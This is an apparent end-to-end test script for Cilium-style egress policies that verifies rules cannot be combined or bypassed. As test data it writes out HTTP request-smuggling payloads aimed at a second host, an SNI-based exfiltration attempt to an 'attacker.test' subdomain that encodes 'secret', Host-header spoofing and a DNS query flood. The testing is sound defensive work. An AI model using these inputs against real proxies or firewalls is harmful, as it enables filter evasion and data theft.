#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# One rule, one tuple: parts of two rules never combine, two names of one address stay two names, and
# nothing passes as "neither TLS nor HTTP" that a server takes for one of them.
# shellcheck disable=SC2016 # what stands in single quotes runs inside

. "$(dirname "$0")/../lib/e2e.sh"
world_enter "$@"
world_up
POLICIES=$WORLD/conf # what follows is short enough to stand beside its test

policy() { # NAME: the egress part from stdin
	printf 'apiVersion: cilium.io/v2\nkind: CiliumNetworkPolicy\nmetadata: {name: %s}\nspec:\n' "$1"
	printf '  endpointSelector: {}\n'
	sed 's/^/  /'
} >"$WORLD/conf/$1.yaml"

# raw HOST PORT [half]: sends stdin, prints what comes; "\p" in it is a pause, "\N" N times CR LF
cat >"$WORLD/tmp/raw.py" <<'END'
import re, socket, sys, time
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(family)
if sys.argv[3:] == ["half"]:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.settimeout(20)
got = b""
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    for part in sys.stdin.buffer.read().split(b"\\p"):
        s.sendall(re.sub(rb"\\(\d+)N", lambda m: b"\r\n" * int(m[1]), part))
        time.sleep(.2)
    if sys.argv[3:] == ["half"]:
        s.shutdown(socket.SHUT_WR)
        time.sleep(.3)
    while data := s.recv(65536):
        got += data
except OSError as e:
    got += str(e).encode()
sys.stdout.buffer.write(got)
END

raw() { # POLICY NAME-TO-LOOK-UP HOST PORT [half]
	confined "$1" sh -c 'getent ahosts "$0" >/dev/null; python3 "$@"' "$2" "$WORLD/tmp/raw.py" "${@:3}"
}

code() { # POLICY CURL-ARG…
	confined "$1" curl -sk -m 60 -o "$WORLD/tmp/body" -w '%{http_code}' "${@:2}"
}

# ---- a server that is not there: it takes a while, beside the others ----

policy hole <<-END
	egress:
	- toCIDR: [203.0.113.32/32]
	  toPorts: [{ports: [{port: "81", protocol: TCP}]}]
END
ip netns exec net nft -f - <<-END
	table ip hole { chain in { type filter hook input priority 0; ip daddr 203.0.113.32 drop; }; }
END
audit_log=$WORLD/log/hole confined hole python3 - >"$WORLD/tmp/hole" 2>&1 <<-END &
	import socket, time
	start = time.monotonic()
	s = socket.create_connection(("203.0.113.32", 81), 60)
	s.settimeout(60)
	try:
	    s.sendall(b"hello")
	    got = s.recv(1)
	except OSError as e:
	    got = str(e)
	print("told" if time.monotonic() - start < 25 else "late", got)
END
hole=$!

# ---- carried unread: what a server may take for HTTP or TLS is not "another protocol" ----

policy carried <<-END
	egress:
	- toFQDNs: [{matchName: ok.shared.test}]
	  toPorts:
	  - ports: [{port: "443", protocol: TCP}, {port: "80", protocol: TCP}]
END
tail=$'Host: evil.shared.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.shared.test\r\nConnection: close\r\n\r\n'
for family in 4 6; do
	declare -n shared=SHARED$family
	same "IPv$family: the name itself" "$(code carried "-$family" http://ok.shared.test/)" 200
	world_forget
	# one run for all: nginx' log says which of them arrived
	while IFS='|' read -r what start; do
		printf '%b%s' "$start" "$tail" >"$WORLD/tmp/raw.$what"
	done <<-'END'
		an unknown method|PROPFIND / HTTP/1.1\r\n
		a method with an underscore|FOO_BAR / HTTP/1.1\r\n
		a method of thirty letters|AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA / HTTP/1.1\r\n
		a method with a digit|X1 / HTTP/1.1\r\n
		a method of odd token characters|M~!#$%&*+.^`\x27 / HTTP/1.1\r\n
		tabs for spaces|PROPFIND\t/\tHTTP/1.1\r\n
		a version in lower case|PROPFIND / http/1.1\r\n
		a method alone, then the rest|BAR_FOO\\p / HTTP/1.1\r\n
		some thousand empty lines first|\\2100N\\pGET /lines HTTP/1.1\r\n
		a control byte, then the rest|CTL_BYTE /\x01\\p HTTP/1.1\r\n
		a NUL first|\0GET /nul HTTP/1.1\r\n
		a line that is none first|x\r\nGET /line HTTP/1.1\r\n
	END
	confined carried sh -c 'getent ahosts ok.shared.test >/dev/null
		for f in "$0"/raw.*\ *; do python3 "$0/raw.py" "$1" 80 <"$f" & done; wait' \
		"$WORLD/tmp" "$shared" >/dev/null 2>&1
	unseen "IPv$family: text that some server takes for HTTP does not reach the other name" 'host=evil|CTL_BYTE'
	hello='\x80\x32\x01\x03\x03\x00\x09\x00\x00\x00\x20\x00\x00\x9c\x00\x00\x2f\x00\x00\x35'
	hello+='0123456789abcdef0123456789abcdef'
	out=$(printf '%b' "$hello" | raw carried ok.shared.test "$shared" 443 2>&1 | xxd -p)
	hasnt "IPv$family: a ClientHello of SSLv2, which has no server name" "$out" '^1603|0228$'
done

# ---- server names and hosts without an address of their own ----

policy unbound <<-END
	egress:
	- toPorts:
	  - ports: [{port: "443", protocol: TCP}]
	    serverNames: [api.openai.com]
END
for a in "$EVIL4" "$EVIL6"; do
	world_forget
	code unbound --resolve "api.openai.com:443:$a" https://api.openai.com/ >/dev/null
	unseen "a server name that was never resolved to $a" 'sni=api'
done
same "a server name at its own address" "$(code unbound https://api.openai.com/plain)" 200
same "no other name may be asked for" "$(confined unbound getent ahosts ok.shared.test)" ''

policy hosts <<-END
	egress:
	- toEntities: [world]
	  toPorts:
	  - ports: [{port: "443", protocol: TCP}]
	    rules:
	      http: [{method: GET, host: "api[.]openai[.]com"}]
	- toEndpoints: [{}]
	  toPorts:
	  - ports: [{port: "53", protocol: ANY}]
	    rules: {dns: [{matchName: api.openai.com}]}
END
same "a host of an http rule" "$(code hosts https://api.openai.com/plain)" 200
for version in --http1.1 --http2; do
	sniff_start "sni$version"
	code hosts $version --resolve "c2vjcmv0.attacker.test:443:$EVIL4" https://c2vjcmv0.attacker.test/ >/dev/null
	sniff_stop "sni$version"
	check "no name that no host allows leaves in a ClientHello, $version" \
		sh -c '! grep -aq c2vjcmv0 "$0"' "$WORLD/pcap/sni$version.pcap"
done

# ---- parts of two rules ----

policy parts <<-END
	egress:
	- toFQDNs: [{matchName: api.openai.com}]
	  toPorts:
	  - ports: [{port: "443", protocol: TCP}]
	    rules:
	      http: [{method: GET, path: /a}, {method: PUT, path: /b, headers: ["X-Tenant: a"]}]
	- toFQDNs: [{matchName: api.openai.com}]
	  toPorts:
	  - ports: [{port: "443", protocol: TCP}]
	    rules:
	      http: [{method: POST, path: "^/x|/y\$"}]
	- toFQDNs: [{matchName: ok.shared.test}]
	  toPorts:
	  - ports: [{port: "443", protocol: TCP}]
	    rules:
	      http: [{method: GET}]
	- toFQDNs: [{matchPattern: "evil.*.test"}]
	  toPorts:
	  - ports: [{port: "443", protocol: TCP}]
	    rules:
	      http: [{method: DELETE}]
	  - ports: [{port: "80", protocol: TCP}]
	    rules:
	      http: [{method: DELETE}]
END
api=https://api.openai.com
cat >"$WORLD/tmp/each.sh" <<'END'
while read -r want args; do
	# shellcheck disable=SC2086 # several arguments
	got=$(curl -sk -m 60 -o /dev/null -w '%{http_code}' $1 $args)
	[ "$got" = "$want" ] && echo "ok - $1 $args" || echo "not ok - $1 $args: $got, not $want"
done
END
for version in --http1.1 --http2; do
	tap_import "$(confined parts bash "$WORLD/tmp/each.sh" $version <<-END
		200 $api/a
		403 $api/b
		403 -X POST $api/a
		403 -X PUT $api/b
		200 -X PUT -H X-Tenant:a $api/b
		403 -X PUT -H X-Tenant:b $api/b
		403 -X PUT -H X-Tenant:a -H X-Tenant:b $api/b
		400 -X PUT -H X-Tenant:a -H X_Tenant:b $api/b
		403 -H X-Tenant:a $api/b
		200 -X POST $api/x
		200 -X POST $api/y
		403 -X POST $api/xy
		403 -X POST $api/x/y
		403 -X POST $api/y?x
		200 https://ok.shared.test/
		403 -X DELETE https://ok.shared.test/
		403 https://evil.shared.test/
		421 -H Host:evil.shared.test https://ok.shared.test/
		421 -X DELETE -H Host:evil.shared.test https://ok.shared.test/
		421 -H Host:ok.shared.test:80 https://ok.shared.test/
	END
	)" 20
done
world_forget
out=$(confined parts sh -c 'getent ahosts evil.shared.test ok.shared.test >/dev/null
	curl -sm60 -X DELETE -H "Host: ok.shared.test" http://evil.shared.test/')
hasnt "plain HTTP: a name of the address, but of another rule and port" "$out" '^ok'
unseen "and nothing arrived" 'host=ok'

# ---- learned, denied, carried: who opens what ----

policy learned <<-END
	egress:
	- toFQDNs: [{matchName: ok.shared.test}]
	  toPorts: [{ports: [{port: "443", protocol: TCP}]}]
	- toEndpoints: [{}]
	  toPorts:
	  - ports: [{port: "53", protocol: ANY}]
	    rules: {dns: [{matchPattern: "*"}]}
	egressDeny:
	- toCIDR: [203.0.113.70/32, "2001:db8:113::70/128"]
	  toPorts: [{ports: [{port: "443", protocol: TCP}]}]
END
has "a name that may only be asked for" "$(confined learned getent ahostsv4 evil.example)" "$EVIL4"
same "opens nothing" "$(code learned https://evil.example/)" 000
out=$(confined learned sh -c 'getent ahosts evil.shared.test ok.shared.test >/dev/null
	curl -skm60 https://evil.shared.test/')
hasnt "also not where an allowed name has the same address" "$out" evil
same "the allowed one passes" "$(code learned https://ok.shared.test/)" 200

policy both <<-END
	egress:
	- toFQDNs: [{matchName: pass.example}]
	  toPorts:
	  - ports: [{port: "1", endPort: 443, protocol: TCP}]
	    rules: {http: [{method: GET, path: /}]}
	- toCIDR: [203.0.113.70/32]
	  toPorts: [{ports: [{port: "80", protocol: ANY}]}]
	egressDeny:
	- toCIDR: ["2001:db8:113::/64"]
END
same "an L4 rule and an L7 rule of one port: the wider one" "$(code both -4 -X POST http://pass.example/p)" 200
same "on a port of the L7 rule alone: that" "$(code both -4 -X POST https://pass.example/p)" 403
same "and its twin" "$(code both -4 https://pass.example/)" 200
same "a denied address of an allowed name" "$(code both -6 https://pass.example/)" 000

# ---- what a connection owes its client ----

policy gateway <<-END
	egress:
	- toCIDR: [$GATEWAY4/32]
	  toPorts:
	  - ports: [{port: "8080", protocol: TCP}]
	    rules: {http: [{method: "GET|POST", path: "/.*"}]}
END
short=''
for size in 70000 100000 130000 160000 190000 220000; do
	out=$(printf 'GET /bytes/%d HTTP/1.1\r\nHost: llm-gateway\r\n\r\n' $size |
		raw gateway llm-gateway "$GATEWAY4" 8080 half | wc -c)
	[ "$out" -gt $size ] || short+=" $size:$out"
done
same "a client that ends its side gets the whole answer" "$short" ''
out=$(printf 'POST /v1/chat/completions HTTP/1.0\r\nHost: a\r\nContent-Length: 15\r\n\r\n{"stream":true}' |
	raw gateway llm-gateway "$GATEWAY4" 8080 2>&1)
hasnt "a client of HTTP/1.0 gets no chunks" "$out" '[Cc]hunked'
has "but the answer" "$out" 'DONE'
wait $hole
has "a server that is not there is told within a dial's time" "$(cat "$WORLD/tmp/hole")" '^told '
audit_log=$WORLD/log/hole audited "as what it is" '"deny"' "$(reason timeout)"

cat >"$WORLD/tmp/many.py" <<'END'
import socket, struct
q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\0\0\1\0\1"
for n in 215, 1:
    s = socket.create_connection(("192.0.0.1", 53), 20)
    s.sendall((struct.pack(">H", len(q)) + q) * n)
    s.settimeout(20)
    got = 0
    while got < 19 * n:
        got += len(s.recv(65536))
print("answered")
END
same "hundreds of questions in one segment need no deep stack" \
	"$(ulimit -s 2048; confined gateway python3 "$WORLD/tmp/many.py" 2>&1)" answered

tap_done
